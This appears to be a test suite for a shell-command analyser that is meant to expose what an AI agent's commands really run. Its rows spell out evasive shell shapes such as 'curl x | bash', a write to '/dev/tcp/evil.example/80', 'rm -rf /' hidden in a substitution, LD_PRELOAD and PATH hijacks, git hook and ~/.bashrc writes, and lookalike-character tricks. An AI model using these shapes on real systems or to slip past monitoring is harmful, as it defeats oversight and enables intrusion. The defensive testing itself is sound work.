import { describe, expect, it, vi } from "vitest";
import { analyzeShell, type ShellAnalysis, type ShellWord } from "./shell-analysis.ts";

/** A word as the rows write it: its literal value, or `<source>` when it expands at run time. */
function render(word: ShellWord): string {
  return word.literal ? word.text : `<${word.text}>`;
}

interface Row {
  /** The command line, exactly as the agent would send it. */
  source: string;
  /** Every simple command's name, in source order. */
  commands: string[];
  /** Expected args (rendered) of the commands at these indexes. */
  args?: Record<number, string[]>;
  /** Expected `via` of the commands at these indexes. */
  via?: Record<number, string[]>;
  /** Every file redirection as `access operator target` (target rendered). Default: none. */
  redirections?: string[];
  /** false: fully visible. Otherwise each pattern must match one of the reasons. */
  opaque: false | RegExp | RegExp[];
}

function check(row: Row, result: ShellAnalysis): void {
  expect(result.commands.map((c) => c.name)).toEqual(row.commands);
  for (const [index, args] of Object.entries(row.args ?? {})) {
    expect(result.commands[Number(index)]?.args.map(render), `args of command ${index}`).toEqual(args);
  }
  for (const [index, via] of Object.entries(row.via ?? {})) {
    expect(result.commands[Number(index)]?.via, `via of command ${index}`).toEqual(via);
  }
  expect(result.redirections.map((r) => `${r.access} ${r.operator} ${render(r.target)}`)).toEqual(
    row.redirections ?? [],
  );
  if (row.opaque === false) {
    expect(result.opaque).toEqual([]);
  } else {
    expect(result.opaque.length).toBeGreaterThan(0);
    for (const pattern of Array.isArray(row.opaque) ? row.opaque : [row.opaque]) {
      expect(
        result.opaque.some((reason) => pattern.test(reason)),
        `a reason matching ${pattern} in ${JSON.stringify(result.opaque)}`,
      ).toBe(true);
    }
  }
}

/** `sh -c '…'` nested `levels` times around `inner`, quoted correctly at every level. */
function nestedShellC(levels: number, inner: string): string {
  let code = inner;
  for (let i = 0; i < levels; i++) code = `sh -c '${code.replaceAll("'", `'\\''`)}'`;
  return code;
}

const ROWS: Row[] = [
  // Names after quote and escape removal; a path stays a path.
  { source: 'c""url x', commands: ["curl"], args: { 0: ["x"] }, opaque: false },
  { source: "\\curl x", commands: ["curl"], opaque: false },
  { source: "/usr/bin/curl x", commands: ["/usr/bin/curl"], opaque: false },
  { source: "'curl' x", commands: ["curl"], opaque: false },
  { source: "cu\\rl x", commands: ["curl"], opaque: false },
  { source: "$'\\x63url' x", commands: ["curl"], opaque: false },
  { source: `curl "a b" 'c d' e\\ f`, commands: ["curl"], args: { 0: ["a b", "c d", "e f"] }, opaque: false },
  {
    source: `echo "x\\"y" 'it'"'"'s' $'\\x41'`,
    commands: ["echo"],
    args: { 0: ['x"y', "it's", "A"] },
    opaque: false,
  },
  {
    source: `echo $HOME/x ~ *.ts {a,b} "$(cat f)"`,
    commands: ["echo", "cat"],
    args: { 0: ["<$HOME/x>", "<~>", "<*.ts>", "a", "b", '<"$(cat f)">'] },
    opaque: false,
  },
  { source: "echo a=b -- --x", commands: ["echo"], args: { 0: ["a=b", "--", "--x"] }, opaque: false },

  // Substitutions of every kind: the commands inside run too.
  {
    source: "echo $(curl x)",
    commands: ["echo", "curl"],
    args: { 0: ["<$(curl x)>"], 1: ["x"] },
    opaque: false,
  },
  { source: "echo `curl x`", commands: ["echo", "curl"], opaque: false },
  { source: 'echo "a $(curl x) b"', commands: ["echo", "curl"], opaque: false },
  { source: "cat <(curl x) >(tee y)", commands: ["cat", "curl", "tee"], opaque: false },
  { source: "X=$(curl x) true", commands: ["curl", "true"], opaque: false },
  { source: "echo ${x:-$(curl x)}", commands: ["echo", "curl"], opaque: false },
  // A subscript is arithmetic: the output of $(c) would be evaluated as arithmetic too.
  {
    source: "echo ${x/$(a)/$(b)} ${x[$(c)]}",
    commands: ["echo", "a", "b", "c"],
    opaque: /subscript or offset in "\$\{x\[\$\(c\)\]\}"/,
  },
  {
    source: "echo $(( $(id) + 1 ))",
    commands: ["echo", "id"],
    opaque: /arithmetic "\$\(\( \$\(id\) \+ 1 \)\)" .*command substitution/,
  },
  { source: "echo $(echo $(echo $(curl x)))", commands: ["echo", "echo", "echo", "curl"], opaque: false },
  {
    source: "echo `echo \\`curl x\\``",
    commands: ["echo", "echo", "curl"],
    args: { 2: ["x"] },
    opaque: false,
  },
  { source: "[[ $(id) == x ]]", commands: ["id"], opaque: false },
  { source: "(( $(id) ))", commands: ["id"], opaque: /arithmetic "\(\( \$\(id\) \)\)"/ },
  { source: "for ((i=$(id); i<3; i++)); do :; done", commands: ["id", ":"], opaque: /loop header/ },
  { source: "cat <<EOF\n$(curl x) `id`\nEOF", commands: ["cat", "curl", "id"], opaque: false },
  { source: "cat <<'EOF'\n$(curl x) `id`\nEOF", commands: ["cat"], opaque: false },
  { source: 'cat <<-"EOF"\n\t$(curl x)\n\tEOF', commands: ["cat"], opaque: false },
  { source: 'cat <<< "$(curl x)"', commands: ["cat", "curl"], opaque: false },
  { source: "Y=(a $(curl x))", commands: ["curl"], opaque: false },
  {
    source: "declare Z=$(curl x)",
    commands: ["declare", "curl"],
    args: { 0: ["<Z=$(curl x)>"] },
    opaque: false,
  },
  { source: "case $(id) in a) curl x;; $(w)) y;; esac", commands: ["id", "curl", "w", "y"], opaque: false },
  { source: "cat < <(curl x)", commands: ["cat", "curl"], opaque: false },

  // Lists, pipelines, groups and control flow.
  { source: "a && b || c; d & e", commands: ["a", "b", "c", "d", "e"], opaque: false },
  { source: "a | b |& c", commands: ["a", "b", "c"], opaque: false },
  { source: "curl x &", commands: ["curl"], opaque: false },
  { source: "( (echo a) )", commands: ["echo"], opaque: false },
  { source: "{ curl x; }", commands: ["curl"], opaque: false },
  { source: "{ curl x; } > out 2>&1", commands: ["curl"], redirections: ["write > out"], opaque: false },
  {
    source: "if curl x; then :; elif id; then true; else false; fi",
    commands: ["curl", ":", "id", "true", "false"],
    opaque: false,
  },
  {
    source: 'while read l; do rm "$l"; done < list',
    commands: ["read", "rm"],
    args: { 1: ['<"$l">'] },
    redirections: ["read < list"],
    opaque: false,
  },
  { source: "until curl x; do sleep 1; done", commands: ["curl", "sleep"], opaque: false },
  { source: "for f in $(ls); do rm $f; done", commands: ["ls", "rm"], args: { 1: ["<$f>"] }, opaque: false },
  { source: "select x in a b; do curl $x; done", commands: ["curl"], opaque: false },
  { source: "f() { curl x; }; f", commands: ["curl", "f"], opaque: /"f" is defined as a function/ },
  { source: "function g { id; }", commands: ["id"], opaque: /defines the function "g"/ },
  { source: "coproc curl x", commands: ["curl"], opaque: false },
  { source: "time curl x", commands: ["curl"], opaque: false },
  { source: "! curl x", commands: ["curl"], opaque: false },
  { source: "echo ok\ncurl x", commands: ["echo", "curl"], opaque: false },
  { source: "# only a comment", commands: [], opaque: false },
  { source: "", commands: [], opaque: false },

  // Wrappers: the wrapper runs, and so does what it wraps.
  {
    source: "env -i curl x",
    commands: ["env", "curl"],
    args: { 1: ["x"] },
    via: { 0: [], 1: ["env"] },
    // Without PATH, a bash it starts looks names up in "." too.
    opaque: /"env" starts "curl" without PATH/,
  },
  { source: "env -u HOME FOO=1 curl x", commands: ["env", "curl"], opaque: false },
  {
    source: "/usr/bin/env -- curl x",
    commands: ["/usr/bin/env", "curl"],
    via: { 1: ["env"] },
    opaque: false,
  },
  { source: "command curl x", commands: ["command", "curl"], via: { 1: ["command"] }, opaque: false },
  { source: "command -v curl", commands: ["command"], opaque: false },
  { source: "exec curl x", commands: ["exec", "curl"], via: { 1: ["exec"] }, opaque: false },
  { source: "nice -n 5 curl x", commands: ["nice", "curl"], args: { 1: ["x"] }, opaque: false },
  { source: "nohup curl x &", commands: ["nohup", "curl"], opaque: false },
  { source: "timeout -s KILL 10 curl x", commands: ["timeout", "curl"], args: { 1: ["x"] }, opaque: false },
  { source: "stdbuf -oL curl x", commands: ["stdbuf", "curl"], opaque: false },
  { source: "sudo -u root curl x", commands: ["sudo", "curl"], via: { 1: ["sudo"] }, opaque: false },
  {
    source: "sudo env FOO=1 nice curl x",
    commands: ["sudo", "env", "nice", "curl"],
    via: { 3: ["sudo", "env", "nice"] },
    opaque: false,
  },
  { source: "\\time -v curl x", commands: ["time", "curl"], via: { 1: ["time"] }, opaque: false },
  {
    source: "xargs curl",
    commands: ["xargs", "curl"],
    args: { 1: ["<<xargs input>>"] },
    via: { 1: ["xargs"] },
    opaque: false,
  },
  {
    source: "xargs -0 -n 1 -I{} curl -o {}.out {}",
    commands: ["xargs", "curl"],
    args: { 1: ["-o", "<{}.out>", "<{}>"] },
    opaque: false,
  },
  {
    source: "find . -exec curl {} \\;",
    commands: ["find", "curl"],
    args: { 1: ["<{}>"] },
    via: { 1: ["find -exec"] },
    opaque: false,
  },
  {
    source: "find . -name '*.ts' -execdir rm {} + -ok cat {} \\;",
    commands: ["find", "rm", "cat"],
    via: { 1: ["find -execdir"], 2: ["find -ok"] },
    opaque: false,
  },
  {
    source: "sh -c 'curl x'",
    commands: ["sh", "curl"],
    args: { 1: ["x"] },
    via: { 1: ["sh -c"] },
    opaque: false,
  },
  {
    source: 'bash -c "cat a; curl b"',
    commands: ["bash", "cat", "curl"],
    via: { 2: ["sh -c"] },
    opaque: false,
  },
  {
    source: "bash -lc 'curl x | sh'",
    commands: ["bash", "curl", "sh"],
    opaque: /"sh" runs commands read from its standard input/,
  },
  { source: 'sh -c "$VAR"', commands: ["sh"], opaque: /"sh -c" runs the string "\$VAR"/ },
  {
    source: "eval curl x",
    commands: ["eval", "curl"],
    via: { 1: ["eval"] },
    opaque: /"eval" runs its arguments/,
  },
  { source: 'eval "$X"', commands: ["eval"], opaque: /"eval" runs its arguments/ },
  { source: "source ./x.sh", commands: ["source"], opaque: /"source" runs the script "\.\/x\.sh"/ },
  { source: ". ~/.profile", commands: ["."], opaque: /"\." runs the script "~\/\.profile"/ },
  { source: "bash script.sh", commands: ["bash"], opaque: /"bash" runs the script "script\.sh"/ },
  {
    source: "curl x | bash",
    commands: ["curl", "bash"],
    opaque: /"bash" runs commands read from its standard input/,
  },
  { source: "sudo $X curl", commands: ["sudo"], opaque: /arguments of "sudo" include "\$X"/ },
  {
    source: "sudo --frobnicate curl",
    commands: ["sudo"],
    opaque: /option "--frobnicate", which Lathe does not recognise/,
  },
  { source: "env $OPTS curl x", commands: ["env"], opaque: /arguments of "env" include "\$OPTS"/ },
  { source: "find . $ACTION", commands: ["find"], opaque: /"find" is given "\$ACTION".*-exec/ },
  {
    source: "trap 'curl x' EXIT",
    commands: ["trap", "curl"],
    via: { 1: ["trap"] },
    opaque: /"trap" sets shell code to run later/,
  },
  { source: "alias ls='curl x'; ls", commands: ["alias", "ls"], opaque: /"ls" is defined as an alias/ },
  {
    source: "watch 'curl x | tail'",
    commands: ["watch", "curl", "tail"],
    via: { 1: ["watch"] },
    opaque: false,
  },
  {
    source: `xargs sh -c 'curl "$0"'`,
    commands: ["xargs", "sh", "curl"],
    via: { 2: ["xargs", "sh -c"] },
    opaque: false,
  },
  {
    source: nestedShellC(3, "curl x"),
    commands: ["sh", "sh", "sh", "curl"],
    via: { 3: ["sh -c", "sh -c", "sh -c"] },
    opaque: false,
  },
  { source: nestedShellC(10, "curl x"), commands: Array(9).fill("sh"), opaque: /more than 8 levels deep/ },
  { source: "env -S 'curl x'", commands: ["env"], opaque: /"env -S" splits a string/ },
  {
    source: "xargs -I {} sh -c 'echo {}'",
    commands: ["xargs", "sh"],
    opaque: /"sh -c" runs the string "echo \{\}", which is only known when the shell runs/,
  },
  {
    source: `find . -name '*.log' -exec sh -c 'rm "$1"' _ {} \\;`,
    commands: ["find", "sh", "rm"],
    args: { 1: ["-c", 'rm "$1"', "_", "<{}>"], 2: ['<"$1">'] },
    via: { 2: ["find -exec", "sh -c"] },
    opaque: false,
  },
  {
    source: "timeout --kill-after=5 10 curl x",
    commands: ["timeout", "curl"],
    args: { 1: ["x"] },
    opaque: false,
  },
  { source: "sudo -u root -- curl x", commands: ["sudo", "curl"], opaque: false },
  { source: "bash -o pipefail -c 'curl x'", commands: ["bash", "curl"], opaque: false },
  { source: "command -p curl x", commands: ["command", "curl"], opaque: false },
  {
    source: "builtin eval id",
    commands: ["builtin", "eval", "id"],
    via: { 2: ["builtin", "eval"] },
    opaque: /"eval"/,
  },
  {
    source: "exec bash",
    commands: ["exec", "bash"],
    opaque: /"bash" runs commands read from its standard input/,
  },
  { source: "hash -p /tmp/evil ls; ls", commands: ["hash", "ls"], opaque: /"hash -p" binds a command name/ },
  { source: "enable -f ./x.so cat", commands: ["enable"], opaque: /"enable -f" loads a builtin/ },
  {
    source: "command_not_found_handle() { curl x; }; nosuchcmd",
    commands: ["curl", "nosuchcmd"],
    opaque: /"command_not_found_handle" runs in place of every command/,
  },
  {
    source: "sudo -s",
    commands: ["sudo"],
    opaque: /starts a shell that runs commands from its standard input/,
  },

  // Names that are only known when the shell runs.
  {
    source: "$CMD x",
    commands: ["$CMD"],
    opaque: /the command name "\$CMD" is only known when the shell runs/,
  },
  { source: "${CMD} x", commands: ["${CMD}"], opaque: /the command name "\$\{CMD\}" is only known/ },
  {
    source: '"$(echo curl)" x',
    commands: ['"$(echo curl)"', "echo"],
    opaque: /the command name "\$\(echo curl\)"/,
  },
  { source: "$(echo rm) -rf /", commands: ["$(echo rm)", "echo"], opaque: /command name "\$\(echo rm\)"/ },
  {
    source: "cu* x",
    commands: ["cu*"],
    opaque: /"cu\*" is only known when the shell runs \(it contains a glob pattern\)/,
  },
  // Braces expand before anything runs: the command is curl, given wget and x.
  { source: "{curl,wget} x", commands: ["curl"], args: { 0: ["wget", "x"] }, opaque: false },
  { source: "{curl,$W} x", commands: ["{curl,$W}"], opaque: /only known when the shell runs/ },
  { source: "~/bin/tool", commands: ["~/bin/tool"], opaque: /starts with ~/ },

  // Redirections: files only, with their access.
  {
    source: "echo x > ~/.bashrc",
    commands: ["echo"],
    redirections: ["write > <~/.bashrc>"],
    opaque: /redirection target "~\/\.bashrc" is only known/,
  },
  {
    source: "echo x >> .git/hooks/pre-commit",
    commands: ["echo"],
    redirections: ["write >> .git/hooks/pre-commit"],
    opaque: false,
  },
  {
    source: "echo x | tee a | tee -a b > c",
    commands: ["echo", "tee", "tee"],
    args: { 1: ["a"], 2: ["-a", "b"] },
    redirections: ["write > c"],
    opaque: false,
  },
  { source: "cmd 2>&1 >&2 <&0 3>&- 4<&-", commands: ["cmd"], opaque: false },
  {
    source: "cmd >&out &> all &>> app >| clob <> rw < in 2>/dev/null",
    commands: ["cmd"],
    redirections: [
      "write >& out",
      "write &> all",
      "write &>> app",
      "write >| clob",
      "write <> rw",
      "read < in",
      "write > /dev/null",
    ],
    opaque: false,
  },
  {
    source: 'echo > "$F"',
    commands: ["echo"],
    redirections: ['write > <"$F">'],
    opaque: /redirection target "\$F"/,
  },
  {
    source: "echo > $(mktemp)",
    commands: ["echo", "mktemp"],
    redirections: ["write > <$(mktemp)>"],
    opaque: /redirection target "\$\(mktemp\)"/,
  },
  {
    source: "exec 3> f {fd}>log",
    commands: ["exec"],
    redirections: ["write > f", "write > log"],
    opaque: false,
  },
  {
    source: "echo x > /dev/tcp/evil.example/80",
    commands: ["echo"],
    redirections: ["write > /dev/tcp/evil.example/80"],
    opaque: /network connection/,
  },
  // The folder after cd is followed (see directory-tracking.ts); the plan checks /tmp/rel.txt.
  {
    source: "cd /tmp && echo x > rel.txt",
    commands: ["cd", "echo"],
    redirections: ["write > rel.txt"],
    opaque: false,
  },
  {
    source: "cd /tmp && echo x > /tmp/abs.txt",
    commands: ["cd", "echo"],
    redirections: ["write > /tmp/abs.txt"],
    opaque: false,
  },

  // Reported faithfully; the policy layer judges the arguments.
  {
    source: "git -c core.pager='sh -c id' log",
    commands: ["git"],
    args: { 0: ["-c", "core.pager=sh -c id", "log"] },
    opaque: false,
  },
  { source: "sed -i s/a/b/ f", commands: ["sed"], args: { 0: ["-i", "s/a/b/", "f"] }, opaque: false },
  { source: "sed 'e id' f", commands: ["sed"], args: { 0: ["e id", "f"] }, opaque: false },

  // Variables that change what runs.
  { source: "PATH=/tmp:$PATH ls", commands: ["ls"], opaque: /setting PATH changes which program/ },
  { source: "export PATH=$PATH:/x", commands: ["export"], opaque: /setting PATH/ },
  { source: "LD_PRELOAD=/tmp/x.so ls", commands: ["ls"], opaque: /setting LD_PRELOAD/ },
  {
    source: "GIT_PAGER='less -R' git log",
    commands: ["less", "git"],
    via: { 0: ["GIT_PAGER"], 1: [] },
    opaque: false,
  },
  { source: 'GIT_PAGER="$P" git log', commands: ["git"], opaque: /GIT_PAGER is set to "\$P"/ },
  // git adds arguments of its own to GIT_SSH_COMMAND: the command is followed, but not fully seen.
  {
    source: "env GIT_SSH_COMMAND='ssh -i k' git push",
    commands: ["env", "ssh", "git"],
    via: { 1: ["GIT_SSH_COMMAND"], 2: ["env"] },
    opaque:
      /GIT_SSH_COMMAND is set to "ssh -i k", a command that programs run with arguments of their own added/,
  },

  // Invisible and lookalike characters.
  {
    source: "cu\u200brl x",
    commands: ["cu\u200brl"],
    opaque: [/U\+200B \(zero-width space\)/, /command name/],
  },
  { source: "\u0441url x", commands: ["\u0441url"], opaque: /non-ASCII character "с" \(U\+0441\)/ },
  { source: "echo \u202Etxt.sh", commands: ["echo"], opaque: /U\+202E \(right-to-left override\)/ },
  { source: "echo a\u2066b", commands: ["echo"], opaque: /U\+2066/ },
  {
    source: "\uff43\uff55\uff52\uff4c x",
    commands: ["\uff43\uff55\uff52\uff4c"],
    opaque: /non-ASCII character "ｃ"/,
  },
  {
    source: "echo a \uff5c curl",
    commands: ["echo"],
    opaque: /fullwidth character "｜" \(U\+FF5C\).*looks like "\|"/,
  },
  { source: 'echo "日本語（テスト）"', commands: ["echo"], opaque: false },
  { source: "echo\u00a0x", commands: ["echo\u00a0x"], opaque: /U\+00A0 \(no-break space\)/ },
  { source: "echo x\r", commands: ["echo"], opaque: /U\+000D \(carriage return\)/ },
  { source: "echo \u0007", commands: ["echo"], opaque: /U\+0007/ },
  {
    source: "sh -c $'cu\\u200brl'",
    commands: ["sh", "cu\u200brl"],
    opaque: /shell code that "sh -c" runs contains .*U\+200B/,
  },
  { source: "echo $'\\x1b[31m'", commands: ["echo"], args: { 0: ["\u001b[31m"] }, opaque: false },
  { source: 'git commit -m "✔️ fix 👨‍👩‍👧 👍🏽"', commands: ["git"], opaque: false },
  { source: "cu\u200drl x", commands: ["cu\u200drl"], opaque: /U\+200D \(zero-width joiner\)/ },
  { source: "curl\ufe0f x", commands: ["curl\ufe0f"], opaque: /U\+FE0F/ },

  // Malformed input.
  {
    source: 'echo "unterminated',
    commands: ["echo"],
    opaque: /could not parse the command \(unterminated double quote/,
  },
  { source: "echo $(", commands: ["echo"], opaque: /could not parse/ },
  { source: "if true; then", commands: ["true"], opaque: /could not parse/ },
  { source: ")", commands: [], opaque: /could not parse the command \(unexpected token/ },
  {
    source: "echo " + "$(".repeat(70) + "id" + ")".repeat(70),
    commands: [],
    opaque: /more than 64 levels deep/,
  },

  // Sixty chained commands, the last one the interesting one.
  {
    source: "echo ok && ".repeat(59) + "curl x",
    commands: [...Array(59).fill("echo"), "curl"],
    args: { 59: ["x"] },
    opaque: false,
  },
];

describe("analyzeShell", () => {
  it("has a row for every hostile shape", () => {
    expect(ROWS.length).toBeGreaterThanOrEqual(80);
  });

  it.each(ROWS.map((row) => [JSON.stringify(row.source).slice(0, 90), row] as const))("%s", (_label, row) => {
    check(row, analyzeShell(row.source));
  });

  it("keeps each command's own source slice", () => {
    const result = analyzeShell("X=1 curl -s x > out | sudo rm -rf b");
    expect(result.commands.map((c) => c.source)).toEqual([
      "X=1 curl -s x > out",
      "sudo rm -rf b",
      "rm -rf b",
    ]);
    expect(result.redirections[0]?.source).toBe("> out");
  });

  it("reports the commands of a 1 MB command quickly and without a stack overflow", () => {
    const source = "echo " + "a".repeat(1_000_000) + " && curl x";
    const started = performance.now();
    const result = analyzeShell(source);
    expect(performance.now() - started).toBeLessThan(1000);
    expect(result.commands.map((c) => c.name)).toEqual(["echo", "curl"]);
    expect(result.opaque).toEqual([]);
  });

  it.each([
    ["a chain of 90,000 commands", "echo ok && ".repeat(90_000) + "curl x"],
    ["1 MB of substitutions", "echo $(id); ".repeat(85_000) + "curl x"],
    ["1 MB of nested parentheses", "(".repeat(500_000) + "curl x" + ")".repeat(500_000)],
    ["1 MB of nested substitutions", "echo " + "$(".repeat(300_000) + "id" + ")".repeat(300_000)],
    ["1 MB of nested process substitutions", "cat " + "<(cat ".repeat(150_000) + "id" + ")".repeat(150_000)],
    [
      "1 MB of nested parameter expansions",
      "echo " + "${x:-".repeat(200_000) + "$(id)" + "}".repeat(200_000),
    ],
  ])("analyses or reports opaque %s in bounded time", (_label, source) => {
    const started = performance.now();
    const result = analyzeShell(source);
    // The walk stops itself after 300,000 steps (3 s at worst); parsing a megabyte on a loaded
    // machine takes the rest. Bounded means seconds, not minutes and no stack overflow.
    expect(performance.now() - started).toBeLessThan(6000);
    // Either everything was seen (down to the final curl) or the result says why not.
    if (result.opaque.length === 0) expect(result.commands.at(-1)?.name).toBe("curl");
    else
      expect(result.opaque.join("\n")).toMatch(
        /levels deep|parts to examine|took longer than|could not parse/,
      );
  });

  // The budget is a count of steps, not a clock: a command is judged the same on any machine.
  it.each([
    ["a chain of 60,000 commands, seen whole", "echo ok && ".repeat(60_000) + "curl x", "curl"],
    ["1 MB of substitutions, too many parts", "echo $(id); ".repeat(85_000) + "curl x", undefined],
  ])("judges %s the same on every run, however slow the machine", (_label, source, last) => {
    // A clock that stands still: only the count can end the walk, as on any machine fast
    // enough not to reach the wall-clock backstop.
    const clock = vi.spyOn(performance, "now").mockReturnValue(0);
    let first: ReturnType<typeof analyzeShell>;
    let second: ReturnType<typeof analyzeShell>;
    try {
      first = analyzeShell(source);
      second = analyzeShell(source);
    } finally {
      clock.mockRestore();
    }
    expect(second).toEqual(first);
    if (last === undefined) {
      expect(first.opaque).toEqual([
        "the command has more than 300000 parts to examine, so parts of it were not examined",
      ]);
      expect(first.commands.map((c) => c.name)).not.toContain("curl");
    } else {
      expect(first.opaque).toEqual([]);
      expect(first.commands.at(-1)?.name).toBe(last);
    }
  });

  it("finds a plain command placed after costly substitutions before any command inside them", () => {
    const result = analyzeShell("echo " + "$(a) ".repeat(50_000) + "; curl x");
    expect(result.commands.some((c) => c.name === "curl")).toBe(true);
  });

  it("never throws, whatever the input", () => {
    const alphabet = [
      "$",
      "(",
      ")",
      "`",
      "'",
      '"',
      "\\",
      "{",
      "}",
      "<",
      ">",
      "&",
      "|",
      ";",
      "\n",
      " ",
      "a",
      "#",
      "=",
      "\u200b",
    ];
    let seed = 7;
    const random = (n: number): number => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed % n;
    };
    for (let i = 0; i < 300; i++) {
      let source = "";
      const length = random(60);
      for (let j = 0; j < length; j++) source += alphabet[random(alphabet.length)];
      const result = analyzeShell(source);
      expect(Array.isArray(result.commands)).toBe(true);
      for (const command of result.commands) expect(typeof command.name).toBe("string");
    }
  });
});
